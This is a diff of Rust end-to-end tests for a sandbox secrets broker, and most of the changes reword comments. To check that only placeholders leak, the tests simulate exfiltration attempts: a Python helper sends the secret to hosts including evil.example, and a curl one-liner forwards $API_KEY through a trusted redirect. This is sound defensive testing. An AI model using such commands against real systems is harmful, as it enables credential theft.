@@ -1,5 +1,5 @@
-//! Secrets: placeholders inside, values at the bound host, and responses without values. A real server in a
-//! simulated network, and unmodified programs.
+//! Secrets: placeholders inside the sandbox, values only at the bound host, and responses without values. The
+//! tests use a real server in a simulated network, and unmodified programs.
 
 use std::path::Path;
 use std::time::Duration;
@@ -17,10 +17,10 @@ use e2e::world::{World, in_a_world};
 
 const CANARY: &str = "canary-5f0e9c2b+77/31d4=";
 const NEXT: &str = "canary-of-tomorrow-8c1d";
-/// Policy of most tests: binds the secret to one path of one host.
+/// Policy of most tests. It binds the secret to one path on one host.
 const BOUND: [&str; 4] = ["good.example", "evil.example", "*.good.example", "secret:API_KEY=good.example/v1"];
 
-/// Python program that sends the secret to a URL in the given header, and prints the response.
+/// Python program that sends the secret to a URL in the given header and prints the response.
 const ASK: &str = "
 import os, sys, urllib.request, urllib.error
 header, url, body = sys.argv[1], sys.argv[2], sys.argv[3].encode() if len(sys.argv) > 3 else None
@@ -65,7 +65,7 @@ async fn ask(client: &Client, id: &SandboxId, rest: &[&str]) -> String {
     run(client, id, &[&["python3", "-c", ASK], rest].concat()).await
 }
 
-/// Returns the last request that a host of the world received over TLS.
+/// Returns the last request that a simulated host received over TLS.
 fn last(world: &World) -> serde_json::Value {
     requests_of(world).last().unwrap().clone()
 }
@@ -76,7 +76,7 @@ fn requests_of(world: &World) -> Vec<serde_json::Value> {
     said
 }
 
-/// Requests to the bound host carry the value; everything else sees only a placeholder.
+/// Only requests to the bound host carry the value. Everything else sees a placeholder.
 #[test]
 fn a_placeholder_becomes_the_value_at_its_place_and_nowhere_else() {
     in_a_world(async |world| {
@@ -88,7 +88,7 @@ fn a_placeholder_becomes_the_value_at_its_place_and_nowhere_else() {
             assert!(inside.starts_with("bellglass-secret-API_KEY-"), "{inside}");
             let real = format!("Bearer {CANARY}");
             let placeholder = format!("Bearer {inside}");
-            // S-02: every other header, path and host gets the placeholder.
+            // Attack S-02: every other header, path and host gets only the placeholder.
             for (header, url, gets) in [
                 ("authorization", "https://good.example/v1/a", &real),
                 ("authorization", "https://good.example/v1", &real),
@@ -100,8 +100,8 @@ fn a_placeholder_becomes_the_value_at_its_place_and_nowhere_else() {
             ] {
                 let strange = url.contains("evil") || url.contains("www");
                 let said = if strange {
-                    // Not intercepted: the program sees the host's own certificate, which the template does
-                    // not trust.
+                    // The connection is not intercepted, so the program sees the host's own certificate,
+                    // which the template does not trust.
                     let refused = ask(&client, &id, &[header, url]).await;
                     assert!(refused.contains("CERTIFICATE_VERIFY_FAILED"), "{url}: {refused}");
                     let token = format!("{header}: {placeholder}");
@@ -131,8 +131,8 @@ fn a_placeholder_becomes_the_value_at_its_place_and_nowhere_else() {
     });
 }
 
-/// Programs of all kinds trust the project's authority and cannot change that; a sandbox without a secret
-/// trusts no additional authority.
+/// Programs of all kinds trust the project's authority without being able to change it. A sandbox without a
+/// secret trusts no additional authority.
 #[test]
 fn programs_trust_the_project_where_a_secret_is_bound_and_see_the_hosts_own_certificate_elsewhere() {
     in_a_world(async |world| {
@@ -179,7 +179,8 @@ grep -c BEGIN $SSL_CERT_FILE";
     });
 }
 
-/// S-02: responses that reflect a request contain no value, in whatever encoding and pieces.
+/// Attack S-02: if a response reflects a request, it does not contain the value, whatever its encoding and
+/// however it is split.
 #[test]
 fn an_echo_tells_nothing() {
     in_a_world(async |world| {
@@ -212,7 +213,7 @@ fn an_echo_tells_nothing() {
                     assert!(said.contains(&format!("Bearer {}", "*".repeat(CANARY.len()))), "{kind}: {said}");
                 }
             }
-            // The program follows a redirect itself, and has only the placeholder to send.
+            // The program itself follows the redirect, and has only the placeholder to send.
             let curl = "curl -sLk --location-trusted -H \"authorization: Bearer $API_KEY\" https://good.example/v1/reflect/redirect; echo; echo $API_KEY";
             let said = run(&client, &id, &["sh", "-c", curl]).await;
             let seen = last(world);
@@ -226,8 +227,8 @@ fn an_echo_tells_nothing() {
     });
 }
 
-/// A change applies from the next request on, also after a kill of the server; use of a removed secret is
-/// refused with its name.
+/// A change to a secret applies from the next request on, even after a kill of the server. Requests that use
+/// a removed secret are refused with an error that names the secret.
 #[test]
 fn a_secret_is_changed_and_removed_under_a_running_sandbox() {
     in_a_world(async |world| {
@@ -261,7 +262,7 @@ fn a_secret_is_changed_and_removed_under_a_running_sandbox() {
             let refused =
                 client.set_policy(&id, &Policy::of_words(&BOUND).unwrap()).await.unwrap_err().to_string();
             assert!(refused.contains("project default has no secret API_KEY"), "{refused}");
-            // Without the binding, TLS to the host is no longer intercepted.
+            // Without the binding, the broker no longer intercepts TLS to the host.
             client.set_policy(&id, &Policy::of_words(&BOUND[..3]).unwrap()).await.unwrap();
             let said = run(
                 &client,
@@ -279,8 +280,8 @@ fn a_secret_is_changed_and_removed_under_a_running_sandbox() {
     });
 }
 
-/// S-03: a secret belongs to its project, and a binding that cannot work is refused before a sandbox is
-/// created.
+/// Attack S-03: a secret belongs to its project, and a binding that cannot work is refused before a sandbox
+/// is created.
 #[test]
 fn a_secret_is_its_projects_and_what_cannot_be_used_is_refused_by_name() {
     in_a_world(async |world| {
@@ -307,7 +308,7 @@ fn a_secret_is_its_projects_and_what_cannot_be_used_is_refused_by_name() {
         assert_eq!(reader.secrets().await.unwrap().len(), 1);
         assert!(reader.put_secret("API_KEY", &PutSecret { value: NEXT.into() }).await.is_err());
         assert!(reader.remove_secret("API_KEY").await.is_err());
-        // A rule for methods and paths also applies inside TLS, where the broker reads each request.
+        // A rule for methods and paths also applies within TLS, because the broker reads each request.
         let id = client
             .create(&words(&["GET good.example/v1/*", "secret:API_KEY=good.example"]))
             .await
@@ -325,7 +326,8 @@ fn a_secret_is_its_projects_and_what_cannot_be_used_is_refused_by_name() {
     });
 }
 
-/// S-06: the server stores the value only sealed, and no process inside, response or log contains it.
+/// Attack S-06: the server stores the value only in encrypted form, and no process inside, response or log
+/// contains it.
 #[test]
 fn the_value_is_nowhere() {
     in_a_world(async |world| {
@@ -354,7 +356,7 @@ fn the_value_is_nowhere() {
                 told += &ask(&client, &id, &["authorization", &format!("https://good.example/v1/reflect/{kind}")]).await;
             }
             assert_eq!(last(world)["headers"]["authorization"], format!("Bearer {plain}"), "it was used");
-            // This process keeps running, so that the search has something to find.
+            // This process keeps running, so that the search can find the placeholder in it.
             let spec = ExecSpec { argv: ["sh", "-c", "echo $API_KEY > /workspace/kept; sleep 60"].map(str::to_owned).to_vec(), ..ExecSpec::default() };
             client.start(&id, &spec).await.unwrap();
             let search = "
@@ -381,14 +383,14 @@ print(*found)";
             assert!(!told.contains(plain), "{told}");
             let everywhere = |word: &str| holding(service.data(), word.as_bytes());
             assert!(everywhere(plain).is_empty(), "{:?}", everywhere(plain));
-            // Control: the search finds words that exist.
+            // Control: the search does find words that exist.
             assert!(everywhere("API_KEY").iter().any(|path| path.contains("bellglass.db")) && everywhere("secret_set").iter().any(|path| path.ends_with("audit.log")));
         })
         .await;
     });
 }
 
-/// The command prompts for the value, and does not echo it.
+/// The command prompts for the value without echoing it.
 #[test]
 fn a_value_is_typed_unseen() {
     served(async || {
@@ -405,7 +407,7 @@ fn a_value_is_typed_unseen() {
             move |screen: &[String]| screen.iter().any(|row| row.trim_end() == format!("value of {name}:"))
         };
         tmux.until(shows, "a question", asks("API_KEY")).await;
-        // Longer than a line of the kernel's terminal buffer.
+        // This value is longer than the line buffer of the kernel's terminal.
         tmux.line(&"canary-5f0e".repeat(500));
         tmux.until(shows, "the next question", asks("OTHER")).await;
         tmux.text("canary-5f0e");
@@ -432,7 +434,7 @@ fn holding(directory: &Path, word: &[u8]) -> Vec<String> {
     for entry in std::fs::read_dir(directory).into_iter().flatten().flatten() {
         let path = entry.path();
         let Ok(kind) = entry.file_type() else { continue };
-        // Layers are symlinks to those of the tests, and hold no data of this server.
+        // Layers are symlinks to the tests' shared layers, which contain no data of this server.
         if kind.is_dir() {
             found.extend(holding(&path, word));
         } else if kind.is_file() {
